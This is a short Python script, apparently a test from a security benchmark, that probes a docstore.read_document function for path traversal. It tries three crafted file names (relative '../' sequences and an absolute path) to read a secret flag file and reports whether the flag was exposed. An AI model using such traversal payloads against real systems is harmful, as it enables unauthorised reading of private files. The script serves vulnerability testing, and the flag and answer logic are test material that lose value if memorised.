"""Exploit of docstore.read_document: reads a file outside the document store."""

import sys

sys.path.insert(0, "/app")
import docstore  # noqa: E402

ATTEMPTS = [
    "../../ase/secret/flag.txt",
    "guides/../../../ase/secret/flag.txt",
    "/ase/secret/flag.txt",
]

for name in ATTEMPTS:
    try:
        text = docstore.read_document(name)
    except Exception as e:  # refused or failed: this attempt did not work
        print(f"{name!r}: {type(e).__name__}")
        continue
    if "FLAG-3f9a2c" in text:
        print(f"vulnerable: read the secret through {name!r}")
        sys.exit(0)
    print(f"{name!r}: no secret in the answer")
print("[A.S.E] vulnerability not found")
